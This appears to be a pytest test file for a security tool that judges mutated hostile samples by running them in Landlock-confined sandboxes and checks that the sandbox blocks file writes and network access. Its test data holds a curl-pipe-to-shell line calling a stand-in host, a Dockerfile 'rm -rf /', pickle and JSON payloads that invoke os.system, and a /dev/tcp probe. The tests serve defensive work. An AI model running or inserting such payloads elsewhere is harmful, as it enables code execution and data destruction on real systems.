"""The judge of mutants: what victims do in their process, and what other parsers read."""

import shutil

import pytest

from hostile.python_roads import MODULES
from modelwarden.sandbox import landlock

from .judge import Victims, judge_of


@pytest.fixture(scope="module")
def victims():
    if not landlock.abi() or shutil.which("bash") is None:
        pytest.skip("victims are confined by Landlock, and one of them is bash")
    found = Victims()
    yield found
    found.close()


@pytest.mark.parametrize(
    ("name", "sample", "mutant", "verdict"),
    [
        ("run.sh", b"curl http://e.invalid/x | sh\n", b"curl http://e.invalid/x |sh\n", "harmful"),
        ("run.sh", b"curl http://e.invalid/x | sh\n", b"curl http://f.invalid/x|sh\n", "moved"),
        ("run.sh", b"curl http://e.invalid/x | sh\n", b"cur http://e.invalid/x | sh\n", "changed"),
        ("Dockerfile", b"FROM a\nRUN rm -rf /\n", b"FROM b\nRUN  rm -rf  /\n", "harmful"),
        ("m.pkl", b"cos\nsystem\n(S'true'\ntR.", b"cos\nsystem\n(S'true'\ntRN.", "harmful"),
        ("m.pkl", b"cos\nsystem\n(S'true'\ntR.", b"cos\nsysten\n(S'true'\ntR.", "refused"),
        ("a.py", b"import os\nos.system('true')\n", b"import os;os.system('true')\n", "harmful"),
        ("x.pth", b"import os; os.system('true')\n", b"inport os; os.system('true')\n", "changed"),
        ("a.json", b'{"_target_": "os.system"}', b'{ "_target_":"os.system"}', "harmful"),
        ("a.json", b'{"a": {"_target_": "os.system"}}', b'{"_target_": "os.system"}', "moved"),
        ("a.json", b'{"_target_": "os.system"}', b'{"_target_": "os.systen"}', "changed"),
        ("a.json", b'{"_target_": "os.system"}', b'{"_target_: "os.system"}', "refused"),
        ("m", b"\0\1\2os.system", b"\0\1\3os.system", "unjudged"),
    ],
)
def test_a_mutant_is_judged_by_what_its_victim_does(victims, name, sample, mutant, verdict):
    judge = judge_of(name, sample, {"os", "system", "true"}, victims)

    assert judge.verdict(mutant, victims) == verdict


@pytest.mark.parametrize("title", MODULES)
def test_a_module_runs_a_program_when_python_imports_it(victims, title):
    met = victims.deeds("python", "modeling_x.py", MODULES[title].encode())

    assert met
    assert met[0][0] != "!"


def test_a_victim_writes_nothing_and_reaches_nobody(victims, tmp_path):
    mark = tmp_path / "mark"

    met = victims.deeds("shell", "run.sh", f"echo x > {mark}\n: < /dev/tcp/127.0.0.1/9\n".encode())

    assert not mark.exists()
    assert len([line for line in met if line.startswith("refused")]) >= 2
